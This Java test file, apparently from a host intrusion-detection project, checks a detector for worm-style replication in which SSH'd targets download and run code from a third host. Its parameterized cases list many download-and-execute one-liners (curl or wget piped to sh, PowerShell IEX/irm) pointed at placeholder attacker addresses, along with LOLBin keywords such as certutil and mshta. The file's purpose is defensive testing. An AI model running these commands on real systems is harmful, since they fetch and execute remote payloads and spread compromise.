package dev.rubato.detect.replication;

import static dev.rubato.detect.replication.ReplicationStory.HOUR;
import static dev.rubato.detect.replication.ReplicationStory.target;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.alert.Alert;
import dev.rubato.alert.Severity;
import dev.rubato.event.ProcessImage;
import dev.rubato.lineage.HostProcess;
import dev.rubato.lineage.HostStory;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Copies that send no body: the target is made to load it from a third host. */
class RemoteFetchTest {
    /** Longer than what is read of a command, so that what grows faster than the text shows. */
    private static final int TEXT_CHARS = 16_384;

    /** Ten patterns look at each character some times each. */
    private static final long READS_PER_CHAR = 150L;

    private final ReplicationStory story = new ReplicationStory();

    private static RemoteFetch of(String command) {
        return RemoteFetch.of(
                ProcessImage.ofExe("/usr/bin/ssh").withArgs(List.of("ssh", "root@10.9.1.1", command)), "10.9.1.1");
    }

    private HostProcess cronJob(String script) {
        HostProcess cron = story.service(0, "/usr/sbin/cron");
        return story.host.spawn(cron.key(), 0, 0, "/bin/bash", script);
    }

    private void loops(HostProcess by, int hosts, String command) {
        for (int i = 1; i <= hosts; i++) {
            story.ssh(by, target(i), command);
            story.host.pause(4 * HOUR);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -s http://198.51.100.7/w | sh",
                "cd /tmp || cd /var/run; wget http://198.51.100.7:8080/b.sh; chmod 777 b.sh; sh b.sh",
                "wget -qO- 198.51.100.7/w | sudo bash -s",
                "sh -c \"$(curl -fsSL http://198.51.100.7/w)\"",
                "tftp -g -r w 198.51.100.7 && ./w",
                "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
                "curl -6 http://[2001:db8::7]/w | python3",
                "curl -so w http://198.51.100.7/w\nchmod +x w\n./w",
                "cd /tmp\nwget 198.51.100.7/w -O /tmp/w\n  sudo nohup /tmp/w &",
                "curl -s http://198.51.100.7/w |\n  /usr/bin/env python3.11",
                "curl -s https://example.com/motd; wget -qO- http://198.51.100.7/w | /bin/sh",
                "powershell irm http://198.51.100.7/a | iex",
            })
    void programsThatAreLoadedFromAnAddressAndRunAreSeen(String command) {
        assertEquals(RemoteFetch.ADDRESS, of(command), command);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "systemctl restart app",
                "curl -s http://10.9.1.1/health",
                "curl -o /srv/data.json https://api.example.com/data",
                "wget -q https://example.com/motd -O /etc/motd",
                "/bin/sh -c 'python3 module.py'",
                "docker exec web update-firmware --confirm",
                "curl -s http://198.51.100.7/health\nsystemctl restart app",
            })
    void otherCommandsAreNot(String command) {
        assertEquals(RemoteFetch.NONE, of(command), command);
    }

    @Test
    void anInstallerNamesItsSource() {
        assertEquals(RemoteFetch.NAMED, of("curl -fsSL https://get.example.com | sh"));
        assertEquals(RemoteFetch.NAMED, of("curl -s http://10.9.1.1:8500/join | sh"), "from the target itself");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "ping -c1 198.51.100.9 && curl -fsSL https://get.example.com | sh",
                "export https_proxy=http://198.51.100.9:3128; curl -fsSL https://get.example.com | sh",
                "curl -fsSL https://get.example.com | sh -s -- --server 198.51.100.9",
                "curl -fsSLo i https://get.example.com\nchmod +x i\n./i --join 198.51.100.9",
            })
    void onlyWhatIsLoadedIsLookedAtForAddresses(String command) {
        assertEquals(RemoteFetch.NAMED, of(command), command);
    }

    @Test
    void theHostThatOneJumpsOverIsNotWhatIsLoaded() {
        ProcessImage jump = ProcessImage.ofExe("/usr/bin/ssh")
                .withArgs(List.of("ssh", "-J", "198.51.100.9", "web7", "curl https://get.example.com | sh"));
        assertEquals(RemoteFetch.NAMED, RemoteFetch.of(jump, "web7"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl|/",
                "curl|/curl",
                "curl |/a/a/a;",
                ";sudo ",
                "curl;/x",
                "|sudo sudo\t",
                "| ",
                "\n",
                "curl\n ",
                ")",
                ") ",
                "\"' )",
                "irm|",
                "irm | ",
                "exec irm ",
                "exec",
                "eval ",
                "certutil-urlcache",
                "certutil ",
                "mshta ",
                "/",
                " ",
                "\u0301",
            })
    void whatAnAttackerWritesIsReadInProportionToItsLength(String piece) {
        for (String before : List.of("", "curl ", "curl|", "curl;sudo", "certutil ", "exec ", "irm|", "mshta")) {
            CountedText text = new CountedText(before + piece.repeat(TEXT_CHARS / piece.length()));
            RemoteFetch.loadedAndRun(text);
            assertTrue(
                    text.reads < READS_PER_CHAR * text.length(),
                    () -> "'" + before + piece + "': " + text.reads + " reads of " + text.length());
        }
    }

    /** A text that counts how often its characters are looked at. */
    private static final class CountedText implements CharSequence {
        private final String text;
        private long reads;

        CountedText(String text) {
            this.text = text;
        }

        @Override
        public int length() {
            return text.length();
        }

        @Override
        public char charAt(int index) {
            reads++;
            return text.charAt(index);
        }

        @Override
        public CharSequence subSequence(int start, int end) {
            return text.substring(start, end);
        }

        @Override
        public String toString() {
            return text;
        }
    }

    @Test
    void aCronJobThatLetsEachTargetLoadItsCopyIsFoundByTheThird() {
        story.host.pause(4 * 24 * HOUR);
        loops(cronJob("/opt/app/run.sh"), 3, "curl -s http://198.51.100.7/w | sh");
        Alert first = story.alarms().getFirst();
        assertEquals("playbook", first.variant());
        assertEquals(Severity.MEDIUM, first.severity(), "installers load from addresses now and then");
        assertEquals(
                first.score(),
                first.evidence().stream().mapToDouble(Alert.Evidence::nats).sum(),
                1e-9);
        assertTrue(first.attack().contains("T1105"), first::toString);
    }

    @Test
    void itIsHighIfItAlsoLivesWhereEverybodyMayWrite() {
        loops(cronJob("/dev/shm/.w"), 5, "wget -qO- http://198.51.100.7/w | sh");
        assertEquals(Severity.HIGH, story.alarms().getLast().severity());
    }

    @Test
    void anInstallerThatACronJobRunsOnTheWholeFleetIsRecorded() {
        story.host.pause(4 * 24 * HOUR);
        loops(cronJob("/opt/provision/run.sh"), 20, "curl -fsSL https://get.example.com | sh");
        assertEquals(List.of(), story.alarms());
        assertFalse(story.recorded().isEmpty());
    }

    @Test
    void aLoopThatAnAdministratorTypesIsRecorded() {
        loops(story.terminal(), 20, "curl -fsSL http://10.9.0.5/setup.sh | sh");
        assertEquals(List.of(), story.alarms());
        assertFalse(story.recorded().isEmpty());
    }

    @Test
    void whatWasSeenBeforeARestartCountsAfterIt() {
        loops(cronJob("/dev/shm/.w"), 2, "curl -s http://198.51.100.7/w | sh");
        assertEquals(List.of(), story.alarms());
        ReplicationStory after = new ReplicationStory(HostStory.START_NS, story.facts);
        HostProcess cron = after.service(0, "/usr/sbin/cron");
        HostProcess worm = after.host.spawn(cron.key(), 0, 0, "/bin/bash", "/dev/shm/.w");
        after.host.pause(9 * HOUR);
        after.ssh(worm, target(3), "curl -s http://198.51.100.7/w | sh");
        assertEquals("playbook", after.alarms().getFirst().variant(), after.alerts::toString);
    }
}
